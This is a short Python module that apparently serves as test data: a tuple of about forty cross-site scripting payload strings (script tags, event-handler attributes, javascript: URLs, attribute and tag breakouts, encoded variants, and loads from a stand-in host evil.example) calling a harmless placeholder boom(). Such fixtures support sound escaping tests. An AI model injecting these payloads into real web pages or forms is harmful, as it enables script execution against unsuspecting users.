"""Texts that would run as script or formula where a page or a table took them for more than text."""

SCRIPTS = (
    "<script>boom()</script>", "<SCRIPT>boom()</SCRIPT>", "</script><script>boom()</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=boom()>", "<img/src=x/onerror=boom()>", "<svg onload=boom()>", "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>", "<body onload=boom()>", "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<iframe src=javascript:boom()></iframe>", "<a href=javascript:boom() autofocus onfocus=boom()>x</a>", "<input autofocus onfocus=boom()>",
    "<details open ontoggle=boom()>", "<video><source onerror=boom()></video>", "<math><mtext></p><img src=x onerror=boom()>",
    "<style>@import'//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:boom()'>", "<object data=javascript:boom()></object>", "<embed src=javascript:boom()>",
    "\"><img src=x onerror=boom()>", "'><img src=x onerror=boom()>", "\" onmouseover=boom() x=\"", "' onfocus=boom() autofocus='",
    "</title><img src=x onerror=boom()>", "</textarea><img src=x onerror=boom()>", "</style><img src=x onerror=boom()>",
    "<!--><img src=x onerror=boom()>-->", "]]><img src=x onerror=boom()>", "{{7*7}}<img src=x onerror=boom()>", "${boom()}", "{% raw %}<svg onload=boom()>",
    "&lt;img src=x onerror=boom()&gt;", "&#60;img src=x onerror=boom()>", "\u2028boom()//", "javascript:boom()", "<template><img src=x onerror=boom()></template>",
)  # fmt: skip
